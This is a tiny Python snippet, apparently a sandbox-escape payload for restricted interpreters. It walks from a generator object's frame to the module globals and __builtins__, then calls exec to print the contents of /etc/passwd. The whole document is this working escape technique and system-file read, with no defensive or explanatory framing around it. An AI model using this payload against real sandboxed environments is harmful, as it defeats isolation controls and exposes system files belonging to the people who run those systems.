# class-walk: a generator's frame leads to the running module's globals and its builtins
def gen():
    yield 1

g = gen()
glb = g.gi_frame.f_globals
glb["__builtins__"].__dict__["exec"]("print(open('/etc/passwd').read())")
